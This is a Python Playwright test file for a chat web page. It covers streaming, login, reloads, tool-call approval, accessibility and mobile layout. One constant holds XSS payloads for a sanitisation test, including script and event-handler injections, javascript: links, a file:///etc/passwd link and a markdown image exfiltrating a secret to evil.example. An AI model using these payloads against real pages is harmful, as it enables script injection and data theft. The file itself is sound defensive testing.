"""The page in a real browser: headless Chromium, driven by Playwright, against the page's own server on loopback."""

from __future__ import annotations

import importlib.util
import os
import shutil
from collections.abc import Callable, Iterator
from decimal import Decimal
from typing import Any

import pytest
from live_page import LivePage, live_page

from loomstream import Model, connect
from loomstream import events as e
from loomstream.errors import RateLimited
from loomstream.local import cached_model
from loomstream.testing.faults import Fault
from loomstream.testing.pace import Pace
from loomstream.testing.server import simulator
from loomstream.ui.page.choices import ModelChoice

pytestmark = [pytest.mark.peer, pytest.mark.timeout(120)]
CHROMIUM = "LOOMSTREAM_CHROMIUM"
BEGIN = (e.Start("acme", "weaver-1"), e.TextStart(0))
END = (e.TextEnd(0), e.Usage(input_tokens=3, output_tokens=9, final=True), e.Stop("end_turn"))
QUICK_MS = 5000


@pytest.fixture(scope="module")
def browser(skip_loudly: Callable[..., None]) -> Iterator[Any]:
    program = os.environ.get(CHROMIUM) or shutil.which("chromium") or shutil.which("chromium-browser")
    if program is None:
        skip_loudly("the browser Chromium", f"apt-get install chromium, or set {CHROMIUM} to it")
    if importlib.util.find_spec("playwright") is None:
        skip_loudly("Playwright, which drives the browser,", "pip install 'loomstream[test]'")
    from playwright.sync_api import sync_playwright  # noqa: PLC0415 (it may not be installed)

    with sync_playwright() as playwright:
        running = playwright.chromium.launch(executable_path=program, args=["--no-sandbox"])
        yield running
        running.close()


@pytest.fixture
def server() -> Iterator[LivePage]:
    with live_page() as page:
        yield page


@pytest.fixture
def tab(browser: Any, server: LivePage) -> Iterator[Any]:  # noqa: ANN401 (Playwright may not be installed)
    """A tab with the page, in a window of its own; whatever the browser complains of fails the test."""
    context = browser.new_context()
    context.set_default_timeout(QUICK_MS)
    complaints: list[str] = []
    page = context.new_page()
    page.on("pageerror", lambda error: complaints.append(str(error)))
    page.on("console", lambda message: complaints.append(message.text) if is_complaint(message) else None)
    page.on("dialog", lambda dialog: complaints.append(f"a dialog: {dialog.message}"))
    page.goto(server.entrance)
    page.wait_for_selector("#model option", state="attached")
    yield page
    context.close()
    assert complaints == []


def opened(browser: Any, server: LivePage) -> Any:  # noqa: ANN401 (as above)
    """Give a tab with the page, in a window of its own."""
    context = browser.new_context()
    context.set_default_timeout(QUICK_MS)
    tab = context.new_page()
    tab.goto(server.entrance)
    tab.wait_for_selector("#model option", state="attached")
    return tab


def is_complaint(message: Any) -> bool:  # noqa: ANN401 (as above)
    """Say whether the browser complains of the page; that a request was refused is the page's own to tell."""
    return message.type == "error" and "Failed to load resource" not in message.text


def ask(tab: Any, text: str = "Hello?") -> None:  # noqa: ANN401 (as above)
    before = tab.locator("article").count()
    tab.fill("#text", text)
    tab.press("#text", "Enter")
    tab.wait_for_function("([before]) => document.querySelectorAll('article').length > before", arg=[before])


def wait_for_text(tab: Any, text: str) -> None:  # noqa: ANN401 (as above)
    """Wait until the last answer reads just so."""
    last = "Array.from(document.querySelectorAll('article > div')).at(-1)?.innerText.trim()"
    tab.wait_for_function(f"([text]) => {last} === text", arg=[text])


def wait_for_end(tab: Any) -> None:  # noqa: ANN401 (as above)
    tab.wait_for_selector("article:not([aria-busy])")


def test_the_token_leaves_the_address_and_lets_in(tab: Any, server: LivePage) -> None:  # noqa: ANN401
    assert "token" not in tab.url
    assert tab.url.startswith(server.url)
    stranger = tab.context.browser.new_context()
    page = stranger.new_page()
    page.goto(server.url)
    assert page.url.endswith("/login")
    page.fill("#token", "wrong")
    page.press("#token", "Enter")
    page.wait_for_selector("text=That is not the token.")
    page.fill("#token", server.entrance.partition("token=")[2])
    page.press("#token", "Enter")
    page.wait_for_selector("#composer")
    stranger.close()


def test_the_answer_is_seen_token_by_token(tab: Any, server: LivePage) -> None:  # noqa: ANN401
    ask(tab)
    server.give(*BEGIN)
    so_far = ""
    for piece in ("Rain", "bows", " are **bo", "ld**", " light."):
        server.give(e.TextDelta(0, piece))
        so_far += piece
        wait_for_text(tab, so_far.replace("**", "") if so_far.count("**") == 2 else so_far)
    assert tab.locator("article strong").inner_text() == "bold"
    server.give(e.Cost(provider="acme", model="w", amount_usd=Decimal("0.0123")))
    tab.wait_for_selector("text=about $0.0123")
    assert tab.locator("#total").inner_text() == "$0.0123"
    cost = e.Cost(provider="acme", model="w", amount_usd=Decimal("0.02"), exact=True)
    server.give(END[0], END[1], cost, END[2], end=True)
    wait_for_end(tab)
    figures = tab.locator(".figures").inner_text()
    assert "to first token" in figures
    assert "3 in, 9 out" in figures
    assert "$0.0200" in figures
    assert tab.locator("#status").inner_text() == "The answer is complete."
    assert tab.evaluate("document.activeElement.id") == "text"


def test_the_time_to_the_first_token_begins_when_the_question_is_sent(tab: Any, server: LivePage) -> None:  # noqa: ANN401
    """The request that brings the question counts: by a clock of the browser's that moves 7 s while it is held."""
    tab.clock.install()

    def hold(route: Any) -> None:  # noqa: ANN401 (as above)
        tab.clock.fast_forward(7000)
        route.continue_()

    tab.route("**/messages", hold)
    ask(tab)
    server.give(*BEGIN, e.TextDelta(0, "Light"))
    wait_for_text(tab, "Light")
    tab.clock.run_for(300)
    assert float(tab.locator(".figures").inner_text().split()[0]) >= 7
    server.give(*END, end=True)
    wait_for_end(tab)


def test_what_is_sent_before_the_models_are_there_goes_out_when_they_are(browser: Any, server: LivePage) -> None:  # noqa: ANN401
    context = browser.new_context()
    context.set_default_timeout(QUICK_MS)
    tab = context.new_page()
    held: list[Any] = []

    def hold(route: Any) -> None:  # noqa: ANN401 (as above)
        held.append(route)

    tab.route("**/api/models", hold)
    with tab.expect_request("**/api/models"):
        tab.goto(server.entrance)
    tab.fill("#text", "Hello?")
    tab.press("#text", "Enter")
    held[0].continue_()
    tab.wait_for_selector("article")
    assert tab.locator(".said").inner_text().endswith("Hello?")
    assert tab.locator(".problem").count() == 0
    server.give(*BEGIN, e.TextDelta(0, "Yes."), *END, end=True)
    wait_for_text(tab, "Yes.")
    context.close()


def test_reasoning_and_calls_are_folded(tab: Any, server: LivePage) -> None:  # noqa: ANN401
    ask(tab)
    server.give(
        e.Start("acme", "weaver-1"),
        e.ReasoningStart(0),
        e.ReasoningDelta(0, "Think *hard*."),
        e.ReasoningEnd(0),
        e.ToolCallStart(1, "c", "get_weather"),
        e.ToolCallDelta(1, '{"city":"<b>Oslo</b>"}'),
        e.ToolCallEnd(1, "c", "get_weather", '{"city":"<b>Oslo</b>"}'),
    )
    tab.wait_for_selector("summary >> text=get_weather")
    assert tab.locator("details[open]").count() == 0
    tab.focus("details:has-text('Reasoning') summary")
    tab.keyboard.press("Enter")
    assert tab.locator("details[open]").inner_text().endswith("Think hard.")
    assert tab.locator("details pre").text_content() == '{"city":"<b>Oslo</b>"}'
    server.give(e.Stop("tool_use"), end=True)
    wait_for_end(tab)
    assert "stopped: tool use" in tab.locator(".figures").inner_text()


def test_stopping_stops_the_bill(tab: Any, server: LivePage) -> None:  # noqa: ANN401
    ask(tab)
    server.give(*BEGIN, e.TextDelta(0, "This goes on"))
    wait_for_text(tab, "This goes on")
    assert server.models["acme:weaver-1"].open_streams == 1
    tab.click("#stop")
    tab.wait_for_selector("text=stopped, not whole")
    assert server.models["acme:weaver-1"].open_streams == 0
    wait_for_text(tab, "This goes on")
    ask(tab, "And now?")  # what came of it is told to the next model
    said = server.models["acme:weaver-1"].requests[-1].messages
    assert [message.text for message in said] == ["Hello?", "This goes on", "And now?"]
    tab.keyboard.press("Escape")
    tab.wait_for_function("() => document.querySelectorAll('.cut').length === 2")


def test_a_connection_that_breaks_in_the_middle_loses_and_repeats_nothing(tab: Any, server: LivePage) -> None:  # noqa: ANN401
    server.cuts += [300, 500]  # in the middle of a frame; the browser comes back by itself
    ask(tab)
    server.give(*BEGIN, *(e.TextDelta(0, f"{number} ") for number in range(40)))
    wait_for_text(tab, " ".join(str(number) for number in range(40)))
    asked = [-1 if place is None else int(place) for place in server.asked]  # none where no frame was read whole so far
    assert asked[0] == -1
    assert asked == sorted(asked)
    assert len(asked) == 3
    server.give(e.TextDelta(0, "end"), *END, end=True)
    wait_for_end(tab)
    wait_for_text(tab, " ".join([*(str(number) for number in range(40)), "end"]))
    assert len(server.models["acme:weaver-1"].requests) == 1


def test_a_reload_in_the_middle_of_an_answer(tab: Any, server: LivePage) -> None:  # noqa: ANN401
    ask(tab)
    server.give(*BEGIN, e.TextDelta(0, "one "))
    wait_for_text(tab, "one")
    tab.reload()
    wait_for_text(tab, "one")
    server.give(e.TextDelta(0, "two"))
    wait_for_text(tab, "one two")
    server.give(*END, end=True)
    wait_for_end(tab)
    tab.reload()
    wait_for_text(tab, "one two")
    assert tab.locator("article").count() == 1
    assert tab.locator(".said").text_content() == "You: Hello?"
    tab.click("#new")
    tab.wait_for_selector("#welcome")
    assert tab.locator("article").count() == 0


def test_two_tabs_show_one_conversation(tab: Any, server: LivePage) -> None:  # noqa: ANN401
    other = tab.context.new_page()
    other.goto(tab.url)
    other.wait_for_selector("#model option", state="attached")
    ask(tab)
    server.give(*BEGIN, e.TextDelta(0, "both"))
    for page in (tab, other):
        wait_for_text(page, "both")
    other.click("#stop")
    for page in (tab, other):
        page.wait_for_selector("text=stopped, not whole")
    assert len(server.models["acme:weaver-1"].requests) == 1
    ask(other, "From here")
    server.give(*BEGIN, e.TextDelta(0, "again"), *END, end=True)
    for page in (tab, other):
        page.wait_for_function("() => document.querySelectorAll('article:not([aria-busy])').length === 2")
        wait_for_text(page, "again")


HOSTILE = r"""<script>window.hacked = 1; alert(1)</script><img src=x onerror="window.hacked=1">
[click](javascript:window.hacked=1) [data](data:text/html,<script>window.hacked=1</script>)
[file](file:///etc/passwd) [rel](/api/models) [js](JaVaScRiPt&#58;alert(1)) <javascript:alert(1)>
![exfiltrate](https://evil.example/?q=secret) [real](https://example.com/"onmouseover="window.hacked=1)
[a](https://example.com/a_(b) "title") https://example.com/<script>

<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>

```html
</code></pre><script>window.hacked = 1</script>
```

| <b>x</b> | `|` |
|---|---|
| <svg onload=window.hacked=1> | y |

"""


def test_hostile_text_stays_text(tab: Any, server: LivePage) -> None:  # noqa: ANN401
    foreign: list[str] = []
    tab.on("request", lambda request: None if request.url.startswith(server.url) else foreign.append(request.url))
    deep = "> " * 500 + "deep\n\n" + "- " * 500 + "\n\n" + "[" * 3000 + "*" * 3000 + "`" * 3000 + "_~" * 1500 + "\n\n"
    ask(tab)
    pieces = [HOSTILE[start : start + 3] for start in range(0, len(HOSTILE), 3)]
    server.give(*BEGIN, *(e.TextDelta(0, piece) for piece in pieces), e.TextDelta(0, deep), e.TextDelta(0, "survived"))
    tab.wait_for_selector("article >> text=survived")
    server.give(*END, end=True)
    wait_for_end(tab)
    assert tab.evaluate("window.hacked") is None
    answer = tab.locator("article")
    assert answer.locator("script, img, iframe, svg, object, embed, style, form, input").count() == 0
    links = answer.locator("a").evaluate_all("found => found.map((a) => [a.protocol, a.rel, a.target])")
    assert links
    assert {tuple(link) for link in links} == {("https:", "noopener noreferrer nofollow", "_blank")}
    assert answer.locator("a").evaluate_all("found => found.every((a) => a.getAttributeNames().length === 4)")
    assert "<script>window.hacked = 1; alert(1)</script>" in answer.inner_text()
    assert foreign == []


def test_a_failure_is_shown_in_place_and_can_be_tried_again(tab: Any, server: LivePage) -> None:  # noqa: ANN401
    ask(tab)
    server.give(*BEGIN, e.TextDelta(0, "Half an"), RateLimited("acme: <b>slow down</b>", retry_after_s=2))
    problem = tab.wait_for_selector("article .problem")
    assert "RateLimited" in problem.inner_text()
    assert "<b>slow down</b>" in problem.inner_text()
    assert "Half an" in tab.locator("article").inner_text()
    tab.click("text=Try again")
    tab.wait_for_selector("article:nth-of-type(2)")
    server.give(*BEGIN, e.TextDelta(0, "Whole"), *END, end=True)
    wait_for_text(tab, "Whole")


def test_the_model_changes_in_the_middle_and_takes_the_conversation_along(tab: Any, server: LivePage) -> None:  # noqa: ANN401
    ask(tab)
    server.give(*BEGIN, e.TextDelta(0, "From weaver."), *END, end=True)
    wait_for_end(tab)
    tab.select_option("#model", "other:loom-2")
    ask(tab, "And you?")
    server.give(*BEGIN, e.TextDelta(0, "From loom."), *END, spec="other:loom-2", end=True)
    wait_for_text(tab, "From loom.")
    said = server.models["other:loom-2"].requests[0].messages
    assert [message.text for message in said] == ["Hello?", "From weaver.", "And you?"]
    tab.select_option("#model", "other…")
    tab.fill("#spec", "nonsense")
    tab.fill("#text", "Hi")
    tab.press("#text", "Enter")
    tab.wait_for_selector("main > .problem >> text=names no provider")
    assert tab.input_value("#text") == "Hi"  # what was typed is not lost


def test_it_can_be_used_without_a_mouse_and_read_aloud(tab: Any, server: LivePage) -> None:  # noqa: ANN401
    del server
    order: list[str] = []
    tab.focus(".skip")
    for _ in range(9):
        order.append(tab.evaluate("document.activeElement.id || document.activeElement.className || 'idea'"))
        tab.keyboard.press("Tab")
    assert order == ["skip", "menu", "new", "idea", "idea", "idea", "text", "model", "send"]
    unnamed = "found => found.filter((x) => !(x.labels?.length || x.textContent.trim() || x.ariaLabel)).length"
    assert tab.locator("button, select, textarea, input").evaluate_all(unnamed) == 0
    assert tab.get_attribute("#log", "aria-live") == "polite"
    tab.emulate_media(reduced_motion="reduce")
    ask_again = (
        "getComputedStyle(document.body.appendChild(Object.assign(document.createElement('i'))), null).animationName"
    )
    assert tab.evaluate(ask_again) == "none"


def test_calls_wait_for_the_users_word_and_show_their_results(browser: Any) -> None:  # noqa: ANN401
    ran: list[str] = []

    def weather(city: str) -> str:
        """Tell the weather."""
        ran.append(city)
        return f"<b>4 degrees</b> in {city}"

    def turn(call_id: str) -> list[e.Event]:
        arguments = '{"city":"Oslo"}'
        start, end = e.ToolCallStart(0, call_id, "weather"), e.ToolCallEnd(0, call_id, "weather", arguments)
        return [e.Start("acme", "m"), start, e.ToolCallDelta(0, arguments), end, e.Stop("tool_use")]

    with live_page(functions={"weather": weather}) as server:
        tab = opened(browser, server)
        ask(tab, "How is it?")
        server.give(*turn("c1"), end=True)
        tab.get_by_role("group", name="May weather run?").get_by_role("button", name="Refuse").click()
        tab.wait_for_selector("summary >> text=failed")
        server.give(*turn("c2"), end=True)
        tab.wait_for_selector("text=waits for you")
        assert ran == []
        assert "allow it?" in tab.inner_text("#status")
        tab.reload()  # it waits on
        tab.get_by_role("button", name="Always").click()
        tab.wait_for_selector("summary >> text=done")
        server.give(*turn("c3"), end=True)  # nobody is asked any more
        tab.wait_for_function("() => document.querySelectorAll('.state.good').length === 2")
        server.give(*BEGIN, e.TextDelta(0, "Cold."), *END, end=True)
        wait_for_end(tab)
        assert ran == ["Oslo", "Oslo"]
        assert tab.locator(".asking").count() == 0
        tab.reload()
        tab.locator("summary").nth(1).click()
        shown = tab.locator("details[open]").inner_text()
        assert '{"city":"Oslo"}' in shown
        assert "<b>4 degrees</b> in Oslo" in shown
        assert tab.inner_text("article > div > div > .prose") == "Cold."
        ask(tab, "Again")
        told = [message.role for message in server.models["acme:weaver-1"].requests[-1].messages]
        assert told == ["user", *["assistant", "tool"] * 3, "assistant", "user"]
        server.give(*turn("c4")[:-1])
        tab.wait_for_selector("article:nth-of-type(2) details")
        tab.keyboard.press("Escape")
        tab.wait_for_selector("text=stopped, not whole")
        tab.context.close()


def test_conversations_can_be_gone_back_to(tab: Any, server: LivePage) -> None:  # noqa: ANN401
    for question, answer in (("The first question", "One."), ("<b>Second</b>", "Two.")):
        tab.click("#new")
        ask(tab, question)
        server.give(*BEGIN, e.TextDelta(0, answer), *END, end=True)
        wait_for_end(tab)
    tab.focus("#menu")
    tab.keyboard.press("Enter")
    chats = tab.get_by_role("dialog", name="Conversations")
    names = chats.locator(".name")
    tab.wait_for_selector("#entries li")
    assert names.all_inner_texts() == ["<b>Second</b>", "The first question"]
    assert names.first.get_attribute("aria-current") == "true"
    names.nth(1).click()
    wait_for_text(tab, "One.")
    tab.reload()
    wait_for_text(tab, "One.")
    tab.click("#menu")
    chats.get_by_role("button", name="Rename The first question").click()
    tab.keyboard.type("Weather")
    tab.keyboard.press("Enter")
    tab.wait_for_selector("#entries >> text=Weather")
    remove = chats.get_by_role("button", name="Delete Weather")
    remove.click()
    chats.get_by_role("button", name="Really delete Weather").click()
    tab.wait_for_function("() => document.querySelectorAll('#entries li').length === 1")
    tab.keyboard.press("Escape")
    tab.wait_for_selector("#welcome")  # the current one is gone: a new one has begun
    assert not chats.is_visible()


def test_it_fits_a_phone(browser: Any, server: LivePage) -> None:  # noqa: ANN401
    context = browser.new_context(viewport={"width": 360, "height": 640}, is_mobile=True, has_touch=True)
    page = context.new_page()
    page.goto(server.entrance)
    page.wait_for_selector("#model option", state="attached")
    page.fill("#text", "Hi")
    page.press("#text", "Enter")  # a line, on a screen keyboard
    assert page.input_value("#text") == "Hi\n"
    page.tap("#send")
    page.wait_for_selector(".waiting")
    cost = e.Cost(provider="acme", model="w", amount_usd=Decimal("0.0023"), exact=True)
    wide = "| " + " | ".join(f"column {n}" for n in range(20)) + " |\n|" + "---|" * 20 + "\n\n" + "x" * 500
    server.give(*BEGIN, e.TextDelta(0, wide), END[0], cost, END[2], end=True)
    page.wait_for_selector("article:not([aria-busy])")
    assert page.evaluate("document.documentElement.scrollWidth") <= 360
    assert page.evaluate("document.querySelector('#total').scrollWidth <= document.querySelector('#total').clientWidth")
    for button in page.locator("button:visible").all():
        box = button.bounding_box()
        assert box["x"] >= 0
        assert box["x"] + box["width"] <= 360
    context.close()


def test_three_providers_in_one_conversation_on_the_simulator(browser: Any) -> None:  # noqa: ANN401
    """Their own wires, real connections: a whole answer with its price, one that is cut, one that is stopped."""
    specs = ["openai:gpt-4o", "anthropic:claude-sonnet-4-5-20250929", "gemini:gemini-2.5-flash"]
    text = " ".join(f"word{number}" for number in range(30))
    faults = [None, Fault("cut", at=900), None]
    with simulator(text, pace=Pace(gap_s=0.02), faults=faults) as server:

        def reach(spec: str) -> Model:
            return connect(spec, **server.options(spec.partition(":")[0]), middleware=[])

        offer = [ModelChoice(spec, *spec.split(":")) for spec in specs]
        with live_page(reach, offer=offer) as page:
            context = browser.new_context()
            context.set_default_timeout(QUICK_MS)
            tab = context.new_page()
            tab.goto(page.entrance)
            tab.wait_for_selector("#model option", state="attached")
            ask(tab)
            seen = set[str]()
            while tab.locator("article[aria-busy]").count():
                seen.add(tab.locator("article").inner_text())
            assert len(seen) > 5
            wait_for_text(tab, text)
            assert "$0.0" in tab.locator("#total").inner_text()
            tab.select_option("#model", specs[1])
            ask(tab)
            problem = tab.wait_for_selector("article .problem")
            assert "not whole" in problem.inner_text()
            assert "word0" in tab.locator("article").nth(1).inner_text()
            tab.select_option("#model", specs[2])
            ask(tab)
            tab.wait_for_function("() => document.querySelectorAll('article')[2].innerText.includes('word3')")
            tab.click("#stop")
            tab.wait_for_selector("text=stopped, not whole")
            context.close()
        asked = [(request.provider, request.outcome) for request in server.requests]
    assert asked == [("openai", "whole"), ("anthropic", "fault"), ("gemini", "client_left")]


_WATCH_PROSE = """() => {
    window.seenProse = new Set();
    const prose = () => [...document.querySelectorAll("article .prose")].map((one) => one.innerText).join();
    const watch = new MutationObserver(() => window.seenProse.add(prose()));
    watch.observe(document.body, {subtree: true, childList: true, characterData: true});
}"""


def test_the_embedded_model_answers(browser: Any, skip_loudly: Callable[..., None]) -> None:  # noqa: ANN401
    if importlib.util.find_spec("xllamacpp") is None:
        skip_loudly("the runtime of the embedded model", "pip install 'loomstream[local]'")
    if cached_model() is None:
        skip_loudly("the embedded model", "python -m loomstream.local --fetch")
    embedded = [ModelChoice("local", "local", "embedded")]
    with live_page(connect, offer=embedded, max_tokens=30, temperature=0.0) as page:
        context = browser.new_context()
        tab = context.new_page()
        tab.goto(page.entrance)
        tab.wait_for_selector("option[value=local]", state="attached")
        tab.evaluate(_WATCH_PROSE)
        ask(tab, "Write a short poem about rivers.")
        tab.wait_for_selector("article[aria-busy]", state="attached", timeout=30_000)
        tab.wait_for_selector("article[aria-busy]", state="detached", timeout=45_000)
        assert tab.evaluate("window.seenProse.size") > 3  # it grew before our eyes
        figures = tab.locator(".figures").inner_text()
        assert "to first token" in figures
        assert "$0" in figures
        context.close()
